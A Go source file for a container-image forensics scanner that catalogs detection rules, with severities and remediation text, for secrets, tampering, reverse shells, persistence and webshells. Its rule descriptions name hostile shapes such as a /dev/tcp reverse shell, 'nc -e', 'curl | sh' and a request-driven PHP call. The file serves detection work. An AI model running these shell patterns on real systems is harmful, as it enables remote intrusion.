@@ -1,0 +1,372 @@
+package report
+
+import (
+	"slices"
+	"sort"
+	"strings"
+	"sync"
+
+	"github.com/strata-forensics/strata/audit"
+	"github.com/strata-forensics/strata/signatures"
+)
+
+// CatalogRule describes one rule a scan can report: its id, what it catches, what to do about
+// it, and where docs/rules.md documents it. The catalog is the one place rule descriptions
+// come from: SARIF's rule descriptors, strata rules list and the rule index of docs/rules.md.
+type CatalogRule struct {
+	ID string `json:"id"`
+	// Name is a YARA rule's name, or the analyzer's name for an analyzer's rule.
+	Name      string `json:"name"`
+	Namespace string `json:"namespace,omitempty"`
+	// Source is where the rule lives: "analyzer:shell", "builtin:elf.yar:44", a user rule
+	// file and line.
+	Source   string `json:"source"`
+	Category string `json:"category"`
+	// Severity is the rule's usual severity; Severities says how it varies, "" when it does not.
+	Severity   string `json:"severity"`
+	Severities string `json:"severities,omitempty"`
+	// Description is one line; Detail says what the rule catches and where it stays silent.
+	Description string   `json:"description"`
+	Detail      string   `json:"detail"`
+	Remediation string   `json:"remediation"`
+	Techniques  []string `json:"techniques"`
+	Tags        []string `json:"tags"`
+	// Anchor is the rule's anchor in docs/rules.md; HelpURI the page and anchor.
+	Anchor  string `json:"anchor"`
+	HelpURI string `json:"help_uri"`
+}
+
+// RulesDoc is where the rules are documented, for helpUri: the rule index of docs/rules.md.
+const RulesDoc = InformationURI + "/blob/main/docs/rules.md"
+
+// Catalog is the rules a scan can report, by id.
+type Catalog struct {
+	rules []CatalogRule
+	byID  map[string]int
+}
+
+// Rules returns the catalog's rules: the analyzers' first, by id, then the YARA rules in the
+// order their rule set lists them.
+func (c *Catalog) Rules() []CatalogRule { return append([]CatalogRule(nil), c.rules...) }
+
+// Lookup returns the rule with id.
+func (c *Catalog) Lookup(id string) (CatalogRule, bool) {
+	if c == nil {
+		return CatalogRule{}, false
+	}
+	i, ok := c.byID[id]
+	if !ok {
+		return CatalogRule{}, false
+	}
+	return c.rules[i], true
+}
+
+func (c *Catalog) add(r CatalogRule) {
+	if _, ok := c.byID[r.ID]; ok {
+		return // an analyzer's entry wins over a YARA rule with its id
+	}
+	if r.Anchor == "" {
+		r.Anchor = anchorOf(r.ID)
+	}
+	if r.HelpURI == "" {
+		r.HelpURI = RulesDoc + "#" + r.Anchor
+	}
+	if r.Remediation == "" {
+		r.Remediation = categoryRemediation[r.Category]
+	}
+	if r.Detail == "" {
+		r.Detail = r.Description
+	}
+	cat, _ := audit.ParseCategory(r.Category)
+	r.Techniques = mergeStrings(r.Techniques, audit.TechniquesFor(r.ID, "", cat))
+	tags := []string{"security", r.Category}
+	for _, t := range r.Techniques {
+		tags = append(tags, "external/mitre/attack/"+t)
+	}
+	r.Tags = mergeStrings(r.Tags, tags)
+	c.byID[r.ID] = len(c.rules)
+	c.rules = append(c.rules, r)
+}
+
+// anchorOf is a rule's anchor in docs/rules.md: its id in lower case, other characters as
+// dashes ("strata-rs-001").
+func anchorOf(id string) string {
+	var b strings.Builder
+	for _, r := range strings.ToLower(id) {
+		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' || r == '-' {
+			b.WriteRune(r)
+		} else {
+			b.WriteByte('-')
+		}
+	}
+	return b.String()
+}
+
+func mergeStrings(a, b []string) []string {
+	out := append([]string{}, a...)
+	for _, s := range b {
+		if s != "" && !slices.Contains(out, s) {
+			out = append(out, s)
+		}
+	}
+	return out
+}
+
+// NewCatalog returns the analyzers' rules and the YARA rules given (a rule set's Rules(): the
+// built-in ones and any user rules).
+func NewCatalog(yara []signatures.Rule) *Catalog {
+	c := &Catalog{byID: map[string]int{}}
+	rs := analyzerRules()
+	sort.SliceStable(rs, func(i, j int) bool { return rs[i].ID < rs[j].ID })
+	for _, r := range rs {
+		c.add(r)
+	}
+	for _, y := range yara {
+		id := y.Meta.ID
+		if id == "" {
+			id = y.Namespace + ":" + y.Name
+		}
+		r := CatalogRule{ID: id, Name: y.Name, Namespace: y.Namespace, Source: y.Source, Category: y.Meta.Category,
+			Severity: y.Meta.Severity, Description: y.Meta.Description, Techniques: y.Meta.Techniques, Tags: append([]string{}, y.Tags...)}
+		if r.Description == "" {
+			r.Description = "YARA rule " + id
+		}
+		r.Detail = r.Description + ". YARA rule " + y.Name + " (" + y.Source + ")."
+		if !strings.HasPrefix(y.Source, "builtin:") {
+			r.Anchor, r.HelpURI = "user-rules", RulesDoc+"#user-rules"
+		}
+		c.add(r)
+	}
+	return c
+}
+
+var (
+	builtinOnce    sync.Once
+	builtinCatalog *Catalog
+)
+
+// BuiltinCatalog is the catalog of the analyzers' rules and the built-in YARA rules.
+func BuiltinCatalog() *Catalog {
+	builtinOnce.Do(func() {
+		var yara []signatures.Rule
+		if rs, err := signatures.Compile(signatures.Options{}); err == nil {
+			yara = rs.Rules()
+			rs.Close()
+		}
+		builtinCatalog = NewCatalog(yara)
+	})
+	return builtinCatalog
+}
+
+// categoryRemediation is what to do about a finding of a category when its rule says nothing
+// more particular.
+var categoryRemediation = map[string]string{
+	"reverse-shell":     "Treat the image as compromised: find the build step that added the file, rebuild from a trusted base and source, and look for the address it connects to in network logs.",
+	"ld-preload":        "Remove the preload (LD_PRELOAD, /etc/ld.so.preload) and the library, rebuild the image from trusted sources, and treat containers run from it as compromised.",
+	"persistence":       "Remove what runs by itself, find the build step that placed it, and rebuild from trusted sources.",
+	"ssh-key":           "Remove the key unless the image is meant to be reached over SSH; never ship root's authorized_keys.",
+	"miner":             "Remove the miner and rebuild; look for the pool and wallet in other images and in network logs.",
+	"webshell":          "Remove the page, find the build step that added it, and rebuild; look for requests to it in web server logs.",
+	"secret":            "Revoke the secret, remove it from the image and its history (rebuild; a later layer deleting it keeps it in the lower one), and pass secrets at run time.",
+	"suid":              "Remove the setuid or setgid bit unless the program needs it.",
+	"root-user":         "Run as an unprivileged user (USER) and keep root accounts to root.",
+	"exposed-port":      "Do not expose remote-administration ports from application images.",
+	"hidden-file":       "Look at what the lower layer holds: a later layer removing a file does not remove it from the image.",
+	"timestomp":         "Treat the file's dates as unknown: compare with the chain of custody and the original image.",
+	"tamper":            "Do not trust the image: get it again from a trusted registry and compare digests.",
+	"untrusted-base":    "Build on a base image you trust, or add the base to the trust store (strata trust add) once vetted.",
+	"misconfig":         "Fix the configuration in the Dockerfile and rebuild.",
+	"malware":           "Treat the image as compromised: remove the file, find the build step that added it, and rebuild from trusted sources.",
+	"package-integrity": "Reinstall the package from a trusted mirror and compare; treat the image as compromised until the difference is explained.",
+	"non-packaged":      "Find which build step put the program there and why; install software through the package manager or under /usr/local or /opt.",
+	"vulnerability":     "Upgrade the package to a fixed version and rebuild.",
+}
+
+// analyzerRules is each analyzer's rule table: the rules Strata's analyzers raise without
+// YARA. A test keeps every rule id the analyzers name in here.
+func analyzerRules() []CatalogRule {
+	var out []CatalogRule
+	table := func(analyzer string, rs ...CatalogRule) {
+		for _, r := range rs {
+			r.Name, r.Source = analyzer, "analyzer:"+analyzer
+			out = append(out, r)
+		}
+	}
+	table("scan",
+		CatalogRule{ID: "STRATA-SCAN-001", Category: "malware", Severity: "info", Description: "File larger than --max-file-size: hashed, not content-scanned",
+			Detail:      "A file over the scan's size limit is hashed and indexed but no content analyzer sees it; its hash can still be traced.",
+			Remediation: "Raise --max-file-size to scan it, or look at it by hand (strata export)."},
+		CatalogRule{ID: "STRATA-YARA-ERR", Category: "malware", Severity: "info", Description: "YARA scan of a file failed or timed out",
+			Detail:      "YARA could not finish scanning a file (a timeout or an error): the built-in and user rules did not see all of it.",
+			Remediation: "Scan the file on its own (strata export, then yara) or raise the timeout."},
+	)
+	table("secrets",
+		CatalogRule{ID: "STRATA-SE-001", Category: "secret", Severity: "high", Description: "Secret in the config's Env",
+			Detail: "A secret-named variable with a value, a token format or a URL password in the image config's Env: every container and everyone who pulls the image gets it."},
+		CatalogRule{ID: "STRATA-SE-002", Category: "secret", Severity: "high", Description: "Secret in a history step",
+			Detail: "A build argument, NAME=value assignment, URL password, --password= flag or chpasswd in a history line: the history ships with the image."},
+		CatalogRule{ID: "STRATA-SE-010", Category: "secret", Severity: "high", Severities: "encrypted keys, SSH host keys and keys inside compiled files: medium; snakeoil: low",
+			Description: "PEM private key", Detail: "A PEM private key block (RSA, EC, DSA, OpenSSH, PKCS#8) in a file."},
+		CatalogRule{ID: "STRATA-SE-011", Category: "secret", Severity: "high", Description: "AWS access key ID",
+			Detail: "An AWS access key ID (AKIA/ASIA...) in a file, Env or history."},
+		CatalogRule{ID: "STRATA-SE-012", Category: "secret", Severity: "high", Severities: "critical with the key ID beside it",
+			Description: "AWS secret access key", Detail: "An AWS secret access key assigned to its usual name; with its key ID it is a working credential."},
+		CatalogRule{ID: "STRATA-SE-013", Category: "secret", Severity: "high", Description: "GitHub token", Detail: "A GitHub personal, OAuth, app or fine-grained token."},
+		CatalogRule{ID: "STRATA-SE-014", Category: "secret", Severity: "high", Description: "GitLab personal access token", Detail: "A GitLab personal access token (glpat-)."},
+		CatalogRule{ID: "STRATA-SE-015", Category: "secret", Severity: "high", Description: "Slack token or incoming webhook", Detail: "A Slack bot, user or app token, or an incoming webhook URL."},
+		CatalogRule{ID: "STRATA-SE-016", Category: "secret", Severity: "high", Description: "Stripe live secret key", Detail: "A Stripe live secret or restricted key (sk_live_, rk_live_)."},
+		CatalogRule{ID: "STRATA-SE-017", Category: "secret", Severity: "medium", Description: "JSON Web Token", Detail: "A signed JSON Web Token: a bearer credential until it expires."},
+		CatalogRule{ID: "STRATA-SE-018", Category: "secret", Severity: "medium", Description: "Secret-named setting with a literal value in a .env or config file",
+			Detail: "A setting named like a secret (password, token, api_key, secret) with a literal value in a .env, YAML, INI, JSON or properties file; placeholders and variable references are left out."},
+		CatalogRule{ID: "STRATA-SE-020", Category: "secret", Severity: "high", Description: "SSH identity file", Detail: "A private SSH identity (id_rsa, id_ed25519, ...) in a home directory."},
+		CatalogRule{ID: "STRATA-SE-021", Category: "secret", Severity: "high", Description: "Docker registry credentials", Detail: "auths with credentials in a .docker/config.json."},
+		CatalogRule{ID: "STRATA-SE-022", Category: "secret", Severity: "high", Description: "npm credentials in .npmrc", Detail: "An _authToken, _auth or _password in an .npmrc."},
+		CatalogRule{ID: "STRATA-SE-023", Category: "secret", Severity: "high", Description: "PyPI credentials in .pypirc", Detail: "A password or token in a .pypirc."},
+		CatalogRule{ID: "STRATA-SE-024", Category: "secret", Severity: "high", Description: "Credentials in .netrc", Detail: "A machine entry with a password in a .netrc."},
+		CatalogRule{ID: "STRATA-SE-025", Category: "secret", Severity: "high", Description: "Credentials in .git-credentials", Detail: "A URL with a password or token in a .git-credentials file."},
+		CatalogRule{ID: "STRATA-SE-026", Category: "secret", Severity: "high", Description: "AWS credentials file", Detail: "An aws_secret_access_key in an AWS credentials or config file."},
+		CatalogRule{ID: "STRATA-SE-030", Category: "secret", Severity: "high", Description: "npm access token", Detail: "An npm access token (npm_...)."},
+		CatalogRule{ID: "STRATA-SE-031", Category: "secret", Severity: "high", Description: "PyPI API token", Detail: "A PyPI API token (pypi-...)."},
+		CatalogRule{ID: "STRATA-SE-032", Category: "secret", Severity: "high", Description: "Docker Hub access token", Detail: "A Docker Hub personal access token (dckr_pat_...)."},
+		CatalogRule{ID: "STRATA-SE-033", Category: "secret", Severity: "medium", Description: "Google API key", Detail: "A Google API key (AIza...)."},
+		CatalogRule{ID: "STRATA-SE-034", Category: "secret", Severity: "high", Description: "AI platform API key (OpenAI, Anthropic)", Detail: "An OpenAI or Anthropic API key."},
+		CatalogRule{ID: "STRATA-SE-035", Category: "secret", Severity: "high", Description: "DigitalOcean access token", Detail: "A DigitalOcean personal access or OAuth token."},
+		CatalogRule{ID: "STRATA-SE-036", Category: "secret", Severity: "high", Description: "Shopify access token", Detail: "A Shopify access token (shpat_, shpca_, shppa_, shpss_)."},
+		CatalogRule{ID: "STRATA-SE-037", Category: "secret", Severity: "high", Description: "Azure storage account key", Detail: "An Azure storage account key in a connection string."},
+	)
+	table("config",
+		CatalogRule{ID: "STRATA-CF-001", Category: "root-user", Severity: "medium", Description: "Runs as root: no USER, or USER root/0",
+			Detail: "The image's processes run as root, which makes escaping the container easier."},
+		CatalogRule{ID: "STRATA-CF-002", Category: "exposed-port", Severity: "medium", Severities: "telnet, rsh and the Docker API without TLS: high",
+			Description: "EXPOSE of a remote-administration port", Detail: "The config exposes SSH, telnet, rsh, RDP, VNC, the Docker API or another remote-administration port."},
+		CatalogRule{ID: "STRATA-CF-003", Category: "ld-preload", Severity: "high", Severities: "critical when the library is in the image outside the system library directories",
+			Description: "LD_PRELOAD or LD_AUDIT in Env", Detail: "The config's Env preloads a library into every process the container runs."},
+		CatalogRule{ID: "STRATA-CF-004", Category: "ld-preload", Severity: "low", Severities: "high for writable or relative directories",
+			Description: "LD_LIBRARY_PATH in Env", Detail: "The config's Env puts directories before the system's on the library search path."},
+		CatalogRule{ID: "STRATA-CF-005", Category: "misconfig", Severity: "medium", Severities: "ADD of a URL: low",
+			Description: "Code fetched over the network at build time", Detail: "A build step pipes curl or wget into a shell, or ADDs a URL: what ran is whatever the server sent then."},
+		CatalogRule{ID: "STRATA-CF-006", Category: "misconfig", Severity: "low", Description: "Tagged latest (or untagged)", Detail: "A latest tag names whatever was pushed last: deployments cannot say which image they run."},
+		CatalogRule{ID: "STRATA-CF-007", Category: "misconfig", Severity: "info", Description: "No HEALTHCHECK", Detail: "The image declares no health check."},
+		CatalogRule{ID: "STRATA-CF-008", Category: "misconfig", Severity: "low", Description: "sudo installed", Detail: "sudo is installed in the image: a way back to root for a process that runs as a user."},
+	)
+	table("filesystem",
+		CatalogRule{ID: "STRATA-FS-001", Category: "suid", Severity: "info", Severities: "info for well-known programs in system directories up to high in unusual places or added above the base outside the system directories",
+			Description: "Setuid or setgid file", Detail: "A file with the setuid or setgid bit: it runs with its owner's or group's privileges."},
+		CatalogRule{ID: "STRATA-FS-002", Category: "misconfig", Severity: "medium", Severities: "high for executables and directories",
+			Description: "World-writable file in a system directory", Detail: "A world-writable file in /etc, /usr, /bin, /sbin, /lib, /boot, /root or /opt: any user can change what runs."},
+		CatalogRule{ID: "STRATA-FS-003", Category: "ld-preload", Severity: "critical", Severities: "medium when it lists nothing",
+			Description: "/etc/ld.so.preload present", Detail: "/etc/ld.so.preload makes the dynamic loader load its libraries into every program."},
+		CatalogRule{ID: "STRATA-FS-004", Category: "ssh-key", Severity: "medium", Severities: "high for root",
+			Description: "authorized_keys file", Detail: "An SSH authorized_keys file: whoever holds the matching private key can log in."},
+		CatalogRule{ID: "STRATA-FS-005", Category: "misconfig", Severity: "high", Severities: "critical for root",
+			Description: "Empty password in /etc/passwd or /etc/shadow", Detail: "An account with an empty password field: anyone can log in as it."},
+		CatalogRule{ID: "STRATA-FS-006", Category: "root-user", Severity: "critical", Description: "uid 0 account other than root",
+			Detail: "An account other than root with uid 0 in /etc/passwd: a second root, the usual backdoor account."},
+		CatalogRule{ID: "STRATA-FS-007", Category: "timestomp", Severity: "low", Severities: "medium for executables",
+			Description: "File dated after the image was created", Detail: "A file's mtime is more than five minutes after the image's created time: one of the two dates is false (past 20 per layer: one summary finding)."},
+		CatalogRule{ID: "STRATA-FS-008", Category: "hidden-file", Severity: "medium", Severities: "the hidden finding's severity, raised one step",
+			Description: "A flagged file that a later layer removed or replaced", Detail: "A later layer whited out or replaced a file a finding is about: the file is still in the image, in the lower layer."},
+		CatalogRule{ID: "STRATA-FS-009", Category: "hidden-file", Severity: "medium", Severities: "low in the package directories",
+			Description: "Code a later layer whited out", Detail: "An executable, script, library or server page that a later layer whited out, with the layer that holds it and the one that hid it (past 20 per layer: one summary finding)."},
+	)
+	table("tamper",
+		CatalogRule{ID: "STRATA-TP-001", Category: "tamper", Severity: "high", Description: "Layer blob does not match its manifest digest", Detail: "The stored bytes of a layer hash to something else than the manifest says."},
+		CatalogRule{ID: "STRATA-TP-002", Category: "tamper", Severity: "high", Description: "Layer content does not match the config's diff_id", Detail: "A layer's uncompressed content hashes to something else than the config's diff_id: the layer was swapped."},
+		CatalogRule{ID: "STRATA-TP-003", Category: "tamper", Severity: "high", Description: "Config does not hash to the image ID the archive names", Detail: "The archive names an image ID its config does not hash to."},
+		CatalogRule{ID: "STRATA-TP-004", Category: "tamper", Severity: "medium", Description: "History does not match the layers", Detail: "The history's steps that made layers do not match the layers: layers were added or removed without their build steps."},
+		CatalogRule{ID: "STRATA-TP-005", Category: "tamper", Severity: "high", Description: "Tar entry path climbs above the root", Detail: "A layer entry's path holds .. or is absolute: naive extraction writes outside the root."},
+		CatalogRule{ID: "STRATA-TP-006", Category: "tamper", Severity: "medium", Description: "Link points above the root", Detail: "A symbolic or hard link in a layer points outside the root."},
+		CatalogRule{ID: "STRATA-TP-007", Category: "tamper", Severity: "low", Description: "Path appears more than once in a layer", Detail: "Tools disagree about which copy of a duplicated entry wins."},
+		CatalogRule{ID: "STRATA-TP-008", Category: "tamper", Severity: "low", Description: "Malformed tar entry", Detail: "A layer entry could not be read as tar."},
+		CatalogRule{ID: "STRATA-TP-009", Category: "tamper", Severity: "medium", Description: "Layer is truncated or corrupt", Detail: "A layer's stream ends early or does not decompress."},
+		CatalogRule{ID: "STRATA-TP-010", Category: "tamper", Severity: "low", Description: "Anomaly while reading the image", Detail: "Something about the evidence is wrong in a way the other tamper rules do not name."},
+	)
+	table("trust",
+		CatalogRule{ID: "STRATA-TR-001", Category: "untrusted-base", Severity: "medium", Description: "Not built on a trusted base image",
+			Detail: "The trust store holds images and none is a prefix of this image's layer chain."},
+	)
+	table("packages",
+		CatalogRule{ID: "STRATA-PKG-001", Category: "package-integrity", Severity: "high", Description: "A package's program or library differs from its checksum",
+			Detail: "A program or library differs from the checksum its package database records: a trojaned system binary, or a file changed after install."},
+		CatalogRule{ID: "STRATA-PKG-002", Category: "package-integrity", Severity: "medium", Description: "A package's file differs from its checksum",
+			Detail: "A file other than a program or configuration file differs from the checksum its package database records."},
+		CatalogRule{ID: "STRATA-PKG-003", Category: "package-integrity", Severity: "low", Description: "A package's configuration file differs",
+			Detail: "A configuration file differs from the package's: expected after an administrator's edit, worth a look for code."},
+		CatalogRule{ID: "STRATA-PKG-010", Category: "non-packaged", Severity: "medium", Severities: "high in the base image's layers",
+			Description: "A program in a system path that no package owns", Detail: "An executable in a system directory that no package database lists."},
+	)
+	table("vulns",
+		CatalogRule{ID: "STRATA-VULN-002", Category: "vulnerability", Severity: "low", Description: "Advisory database empty or stale",
+			Detail:      "--vulns ran with an empty advisory database, or one whose newest record is older than --vulndb-max-age.",
+			Remediation: "Import a current OSV export (strata vulndb import)."},
+	)
+	table("shell",
+		CatalogRule{ID: "STRATA-RS-001", Category: "reverse-shell", Severity: "critical", Description: "Shell reading its commands from a /dev/tcp or /dev/udp connection",
+			Detail: "A shell whose standard input and output are a /dev/tcp or /dev/udp connection (bash -i >& /dev/tcp/HOST/PORT 0>&1), found by parsing the script, not by its spelling."},
+		CatalogRule{ID: "STRATA-RS-002", Category: "reverse-shell", Severity: "critical", Description: "Network tool told to run a shell for its peer",
+			Detail: "nc -e, ncat --sh-exec, telnetd -l, rcat -s and the like, joining a connection to a shell; bind shells say so."},
+		CatalogRule{ID: "STRATA-RS-003", Category: "reverse-shell", Severity: "critical", Description: "Shell looped through a named pipe and a network tool",
+			Detail: "mkfifo and a shell whose input and output loop through a network client."},
+		CatalogRule{ID: "STRATA-RS-004", Category: "reverse-shell", Severity: "critical", Description: "socat joining a connection to a shell", Detail: "socat with an EXEC or SYSTEM address running a shell and a network address."},
+		CatalogRule{ID: "STRATA-RS-005", Category: "reverse-shell", Severity: "critical", Description: "Shell reading commands from a network client through a pipe",
+			Detail: "nc, telnet or openssl s_client piped into a shell."},
+		CatalogRule{ID: "STRATA-RS-006", Category: "reverse-shell", Severity: "critical", Description: "Python code joining a socket to a shell", Detail: "Python that connects a socket and runs a shell over it (dup2 and exec, pty.spawn, subprocess)."},
+		CatalogRule{ID: "STRATA-RS-007", Category: "reverse-shell", Severity: "critical", Description: "Perl code joining a socket to a shell", Detail: "Perl that connects a socket and runs a shell over it."},
+		CatalogRule{ID: "STRATA-RS-008", Category: "reverse-shell", Severity: "critical", Description: "Ruby code joining a socket to a shell", Detail: "Ruby that connects a socket and runs a shell over it."},
+		CatalogRule{ID: "STRATA-RS-009", Category: "reverse-shell", Severity: "critical", Description: "PHP code joining a socket to a shell", Detail: "PHP that opens a socket and runs a shell over it."},
+		CatalogRule{ID: "STRATA-RS-010", Category: "reverse-shell", Severity: "critical", Description: "Lua code joining a socket to a shell", Detail: "Lua that connects a socket and runs a shell over it."},
+		CatalogRule{ID: "STRATA-RS-011", Category: "reverse-shell", Severity: "critical", Description: "Node.js code joining a socket to a shell", Detail: "Node.js that connects a socket and pipes it into a shell."},
+		CatalogRule{ID: "STRATA-RS-012", Category: "reverse-shell", Severity: "high", Description: "awk running commands it reads from a /inet connection", Detail: "gawk /inet coprocess running the commands it reads."},
+		CatalogRule{ID: "STRATA-RS-013", Category: "reverse-shell", Severity: "critical", Description: "Commands read from a network connection and run", Detail: "A loop that reads commands from a network connection and runs them."},
+		CatalogRule{ID: "STRATA-RS-014", Category: "reverse-shell", Severity: "high", Description: "X terminal opened on a remote display", Detail: "xterm -display HOST:N: a shell on someone else's screen."},
+		CatalogRule{ID: "STRATA-RS-015", Category: "reverse-shell", Severity: "high", Description: "Tcl code running commands it reads from a socket", Detail: "Tcl that opens a socket and runs what it reads."},
+		CatalogRule{ID: "STRATA-RS-016", Category: "reverse-shell", Severity: "critical", Description: "Go source (go run) joining a connection to a shell", Detail: "Go source run with go run that dials out and runs a shell over the connection."},
+		CatalogRule{ID: "STRATA-PS-001", Category: "persistence", Severity: "critical", Description: "Crontab that runs code it fetches or decodes",
+			Detail: "A cron or at job whose command downloads or decodes code and runs it: it runs again on its schedule."},
+		CatalogRule{ID: "STRATA-PS-002", Category: "persistence", Severity: "critical", Description: "Boot, login or hook script that runs code it fetches or decodes",
+			Detail: "An rc script, shell profile, package hook, udev rule or other autostart place whose commands download or decode code and run it."},
+		CatalogRule{ID: "STRATA-PS-003", Category: "persistence", Severity: "critical", Description: "systemd unit that runs code it fetches or decodes",
+			Detail: "A systemd service or timer whose ExecStart downloads or decodes code and runs it."},
+		CatalogRule{ID: "STRATA-SK-003", Category: "ssh-key", Severity: "high", Description: "Script writing a literal public key into authorized_keys",
+			Detail: "A script that appends a public key it carries to an authorized_keys file."},
+		CatalogRule{ID: "STRATA-LP-012", Category: "ld-preload", Severity: "high", Description: "Script writing a library into /etc/ld.so.preload",
+			Detail: "A script that writes a library path into /etc/ld.so.preload."},
+		CatalogRule{ID: "STRATA-MW-002", Category: "malware", Severity: "high", Description: "Download into a hidden or temporary place, then run",
+			Detail: "A file downloaded into /dev/shm, /var/tmp, /tmp or a hidden name, then made executable and run."},
+		CatalogRule{ID: "STRATA-EX-001", Category: "malware", Severity: "medium", Severities: "high from a hidden or temporary place, low quoted in documentation",
+			Description: "Downloaded code run unverified", Detail: "curl | sh, wget -O- | bash, or a download then run, with no checksum or signature check."},
+		CatalogRule{ID: "STRATA-EX-002", Category: "malware", Severity: "high", Description: "Encoded code decoded and run",
+			Detail: "base64, base32, hex, rev, rot13, gzip or escaped text decoded and run by a shell or eval, over one or several layers of encoding."},
+		CatalogRule{ID: "STRATA-SH-000", Category: "malware", Severity: "medium", Description: "Shell behaviour", Techniques: []string{"T1059.004"},
+			Detail: "A shell behaviour the shell analyzer reports that no more particular rule names."},
+	)
+	table("binary",
+		CatalogRule{ID: "STRATA-RS-021", Category: "reverse-shell", Severity: "high", Description: "Go or statically linked program that connects, starts a process and names a shell",
+			Detail: "A Go or statically linked executable whose code connects out, starts a process and names a shell: a compiled reverse shell."},
+		CatalogRule{ID: "STRATA-LP-005", Category: "ld-preload", Severity: "high", Severities: "low to critical by what the library hooks and where it sits (see rules.md)",
+			Description: "Shared library that hooks libc functions", Detail: "A shared library that defines libc functions (readdir, open, connect ...) and looks the real ones up with dlsym: an interposer, the shape of a userland rootkit."},
+		CatalogRule{ID: "STRATA-LP-006", Category: "ld-preload", Severity: "high", Description: "Hooking library that keeps its strings XOR-encoded",
+			Detail: "A libc-hooking library whose strings are XOR-encoded: hiding what it hooks or hides."},
+	)
+	table("webshell",
+		CatalogRule{ID: "STRATA-WS-101", Category: "webshell", Severity: "critical", Description: "Request input runs a command",
+			Detail: "Request input reaches a command runner (system, exec, Runtime.exec, Process.Start, WScript.Shell ...) by data flow, through decoders and assignments."},
+		CatalogRule{ID: "STRATA-WS-102", Category: "webshell", Severity: "critical", Description: "Request input is evaluated as code",
+			Detail: "Request input reaches eval, assert, create_function, a script engine or a class loader's code path."},
+		CatalogRule{ID: "STRATA-WS-103", Category: "webshell", Severity: "critical", Description: "The request names the function that runs",
+			Detail: "A function or callback named by request input is called ($_GET['f']($_GET['a']), call_user_func with a request-named callback)."},
+		CatalogRule{ID: "STRATA-WS-104", Category: "webshell", Severity: "critical", Description: "Request bytes become code",
+			Detail: "A class or assembly is defined from request bytes (defineClass, Assembly.Load)."},
+		CatalogRule{ID: "STRATA-WS-105", Category: "webshell", Severity: "high", Severities: "critical for an uploaded file or the request body",
+			Description: "A request-named or uploaded file is included", Detail: "include or require of a path the request controls from its start, an uploaded file, php://input or a data: URL."},
+		CatalogRule{ID: "STRATA-WS-106", Category: "webshell", Severity: "medium", Description: "Page evaluates code it decoded from a constant",
+			Detail: "A page evaluates code decoded from a constant and the decoded code shows no request flow: obfuscated code worth a look."},
+		CatalogRule{ID: "STRATA-WS-107", Category: "webshell", Severity: "high", Description: "Request content written to a file the request names",
+			Detail: "A dropper: request content written to a file whose path the request names from its start (move_uploaded_file or copy of an upload to a request-named path, file_put_contents($_POST['f'], $_POST['c']), fopen of a request path then fwrite of request input); PHP only."},
+		CatalogRule{ID: "STRATA-WS-108", Category: "webshell", Severity: "medium", Description: "Request input handed to a function named at run time",
+			Detail: "Request input reaches a call of a function whose name the code computes at run time and the analysis cannot resolve ($x = $k . $v; $x($_POST['x'])); dropped when a stronger finding explains the page."},
+		CatalogRule{ID: "STRATA-WS-190", Category: "webshell", Severity: "info", Description: "Page not analysed",
+			Detail: "A page over 8 MB, a page whose decoding a bound cut short, or an analysis that failed.", Remediation: "Look at the page by hand (strata export)."},
+	)
+	return out
+}
